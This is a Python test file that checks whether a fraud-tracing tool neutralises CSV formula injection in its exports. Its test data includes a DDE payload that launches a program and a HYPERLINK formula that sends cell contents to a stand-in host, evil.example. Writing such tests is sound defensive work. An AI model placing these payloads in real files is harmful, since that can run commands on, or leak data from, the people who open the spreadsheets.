"""CSV formula injection: no cell from input reaches a CSV we write as a spreadsheet formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import duckdb
import numpy as np
import pyarrow as pa
import pytest

from cybersetu import csvsafe
from cybersetu.ledger import DuckDBLedgerStore, ingest
from cybersetu.scoring.classifier import Scored
from cybersetu.scoring.pipeline import write_scores, write_table_csv
from cybersetu.trail.export import requests_csv
from cybersetu.trail.requests import hold_requests
from cybersetu.trail.source import MemorySource
from cybersetu.trail.tracer import trace
from tests.trail.ledgers import at, txn

CALC = "=cmd|'/C calc'!A0"
LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE = [CALC, LINK, "+91 98765", "-2+3", "@SUM(A1)", "\tx", "\rx"]


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _is_formula(value: str) -> bool:
    return value.startswith(csvsafe.FORMULA_START)


@pytest.mark.parametrize("value", HOSTILE)
def test_cell_gets_a_quote(value: str) -> None:
    assert csvsafe.cell(value) == "'" + value
    assert csvsafe.row([value, -12.5, 3, None]) == ["'" + value, -12.5, 3, None]


def test_ordinary_text_is_unchanged() -> None:
    assert csvsafe.cell("SBIN0001234:300") == "SBIN0001234:300"
    assert csvsafe.cell("a=b") == "a=b"
    assert csvsafe.cell("") == ""


def test_table_and_sql_touch_only_text() -> None:
    t = pa.table({"id": [CALC, "ok", None], "n": pa.array([-1, 2, 3], pa.int64())})
    out = csvsafe.table(t)
    assert out.column("id").to_pylist() == ["'" + CALC, "ok", None]
    assert out.column("n").to_pylist() == [-1, 2, 3]
    con = duckdb.connect()
    got = con.execute(
        # The SQL expression under test is csvsafe's own, over a bound column: nothing injected.
        f"SELECT {csvsafe.sql('x')} FROM (VALUES (?), (?), (?), (NULL)) v(x)",  # noqa: S608
        [LINK, "-5", "plain"],
    ).fetchall()
    assert [r[0] for r in got] == ["'" + LINK, "'-5", "plain", None]


def test_hold_request_csv_neutralises_ids() -> None:
    victim, mule, onward = "PUNB0123400:0412000100023456", CALC, LINK
    src = MemorySource(
        [
            txn("=1+1", 0, victim, mule, 80_000),
            txn("600000000011", 10, mule, onward, 30_000, "IMPS"),
        ],
        {victim: "savings", mule: "savings"},
    )
    reqs = hold_requests(trace(src, ["=1+1"], as_of=at(60)))
    text = requests_csv(reqs)
    rows = _rows(text)
    assert {r["account_id"] for r in rows} == {"'" + CALC, "'" + LINK}
    for r in rows:
        assert not any(_is_formula(v) for v in r.values()), r
        float(r["amount"])  # still a number
        float(r["minutes_since_fraud"])
    assert any("'=1+1" in r["complaints"] or "'=1+1" in r["utr_chain"] for r in rows)


def test_scores_and_tables_of_scoring_are_neutralised(tmp_path: Path) -> None:
    scored = Scored(
        account=[CALC, LINK, "ok"],
        score=np.array([0.9, 0.5, 0.1]),
        reasons_en=["-gone", "", ""],
        reasons_hi=["", "", ""],
    )
    write_scores(scored, tmp_path / "scores.csv")
    rows = _rows((tmp_path / "scores.csv").read_text("utf-8"))
    assert [r["account_id"] for r in rows] == ["'" + CALC, "'" + LINK, "ok"]
    assert rows[0]["reasons"] == "'-gone"
    assert [r["rank"] for r in rows] == ["1", "2", "3"]

    t = pa.table({"account_id": [CALC, "x"], "delta": pa.array([-3, 4], pa.int64())})
    write_table_csv(t, tmp_path / "labels.csv")
    rows = _rows((tmp_path / "labels.csv").read_text("utf-8"))
    assert [(r["account_id"], r["delta"]) for r in rows] == [("'" + CALC, "-3"), ("x", "4")]


def test_ingest_error_report_is_neutralised(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    bad = Path("=bad.csv")  # the file column holds the name as given
    bad.write_text(
        "txn_id,ts,src_account,dst_account,amount,channel,remarks\n"
        f'"{CALC}",2026-01-06T10:00:00,A,B,1.234,UPI,"{LINK.replace(chr(34), chr(34) * 2)}"\n'
        f'"{LINK.replace(chr(34), chr(34) * 2)}",2026-01-06T10:00:00,A,B,-5,UPI,x\n',
        encoding="utf-8",
    )
    with DuckDBLedgerStore(tmp_path / "s.duckdb") as store:
        report = ingest(store, [bad], errors_dir=tmp_path / "errors")
    assert report.errors_file is not None
    rows = _rows(report.errors_file.read_text("utf-8"))
    assert [(r["file"], r["id"]) for r in rows] == [
        ("'=bad.csv", "'" + CALC),
        ("'=bad.csv", "'" + LINK),
    ]
    for r in rows:
        assert not any(_is_formula(v) for v in r.values()), r
    assert [r["line"] for r in rows] == ["2", "3"]
